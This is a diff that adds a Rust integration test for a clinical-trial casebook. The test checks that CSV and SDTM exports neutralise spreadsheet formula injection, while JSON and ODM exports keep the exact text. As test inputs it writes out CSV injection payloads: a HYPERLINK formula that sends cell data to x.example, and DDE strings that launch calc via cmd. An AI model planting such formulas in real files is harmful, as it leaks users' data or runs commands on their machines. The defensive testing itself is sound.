@@ -1,0 +1,99 @@
+//! Hardening of exports, monitoring and free text (issue 16): CSV formula injection, free
+//! text with control or invisible characters, duplicate locks and verifications under
+//! concurrency, out-of-range export filters, and what sponsors see of investigators.
+
+use std::collections::HashMap;
+
+use casebook::auth::Role;
+use serde_json::json;
+
+use crate::clinical::{enrolled, injection};
+use crate::exports::{fetch, parse_csv};
+use crate::helpers::TestApp;
+
+/// The CSV at `path` as maps column -> value.
+async fn csv_records(app: &TestApp, path: &str, token: &str) -> Vec<HashMap<String, String>> {
+    let raw = fetch(app, path, token).await;
+    assert_eq!(raw.status, 200, "{path}: {}", raw.text());
+    let rows = parse_csv(&raw.text());
+    let header = rows[0].clone();
+    rows[1..]
+        .iter()
+        .map(|r| header.iter().cloned().zip(r.iter().cloned()).collect())
+        .collect()
+}
+
+const LOT: &str = "=HYPERLINK(\"http://x.example/\"&A1,\"L7\")";
+const TERM: &str = "+cmd|' /C calc'!A0";
+const MEDDRA_TERM: &str = "-2+3";
+const QUERY: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
+
+#[actix_web::test]
+async fn csv_exports_neutralise_formulas_and_other_formats_keep_the_text() {
+    let app = TestApp::spawn().await;
+    app.site("FRA", "Europe/Paris");
+    let inv = app.token(Role::Investigator, &["FRA"]).await;
+    let monitor = app.token(Role::Monitor, &["FRA"]).await;
+    let sponsor = app.token(Role::Sponsor, &[]).await;
+    let code = enrolled(&app, &inv, "FRA").await;
+    let mut day1 = injection(1, "2026-10-05T06:00:00Z", 40.0);
+    day1["lot_number"] = json!(LOT);
+    let r = app
+        .post(&format!("/api/v1/subjects/{code}/injections"), &inv, &day1)
+        .await;
+    assert_eq!(r.status, 201, "{}", r.text);
+    let injection_id = r.body["id"].as_i64().unwrap();
+    // before the first dose: a negative study day, which must stay a number
+    let r = app
+        .post(
+            &format!("/api/v1/subjects/{code}/adverse-events"),
+            &inv,
+            &json!({"term": TERM, "meddra_term": MEDDRA_TERM, "onset_date": "2026-10-03",
+                    "grade": 1, "serious": false, "relationship": "unlikely",
+                    "action_taken": "none", "outcome": "recovering",
+                    "awareness_date": "2026-10-03"}),
+        )
+        .await;
+    assert_eq!(r.status, 201, "{}", r.text);
+    let ae_id = r.body["id"].as_i64().unwrap();
+    let r = app
+        .post(
+            "/api/v1/queries",
+            &monitor,
+            &json!({"record_type": "injections", "record_id": injection_id, "text": QUERY}),
+        )
+        .await;
+    assert_eq!(r.status, 201, "{}", r.text);
+
+    let inj = csv_records(&app, "/api/v1/exports/injections.csv", &sponsor).await;
+    assert_eq!(inj[0]["lot_number"], format!("'{LOT}"));
+    assert_eq!(inj[0]["dose_mg"], "40.00", "numbers are not touched");
+    let aes = csv_records(&app, "/api/v1/exports/adverse_events.csv", &sponsor).await;
+    assert_eq!(aes[0]["term"], format!("'{TERM}"));
+    assert_eq!(aes[0]["meddra_term"], format!("'{MEDDRA_TERM}"));
+    let queries = csv_records(&app, "/api/v1/exports/queries.csv", &sponsor).await;
+    assert_eq!(queries[0]["opened_text"], format!("'{QUERY}"));
+    let ex = csv_records(&app, "/api/v1/exports/sdtm/ex.csv", &sponsor).await;
+    assert_eq!(ex[0]["EXLOT"], format!("'{LOT}"));
+    let ae = csv_records(&app, "/api/v1/exports/sdtm/ae.csv", &sponsor).await;
+    assert_eq!(ae[0]["AETERM"], format!("'{TERM}"));
+    assert_eq!(ae[0]["AEDECOD"], format!("'{MEDDRA_TERM}"));
+    assert_eq!(ae[0]["AESTDY"], "-2", "a negative number stays a number");
+    let ds = csv_records(&app, "/api/v1/exports/sdtm/ds.csv", &sponsor).await;
+    assert_eq!(ds[0]["DSSTDY"], "-4");
+
+    // JSON and ODM carry the exact text
+    let r = app
+        .get(
+            &format!("/api/v1/subjects/{code}/adverse-events/{ae_id}"),
+            &sponsor,
+        )
+        .await;
+    assert_eq!(r.body["term"], TERM);
+    assert_eq!(r.body["meddra_term"], MEDDRA_TERM);
+    let odm = fetch(&app, "/api/v1/exports/odm.xml", &sponsor).await;
+    assert_eq!(odm.status, 200);
+    let xml = odm.text();
+    assert!(xml.contains(&format!("Value=\"{TERM}\"")), "{xml}");
+    assert!(!xml.contains(&format!("'{TERM}")));
+}
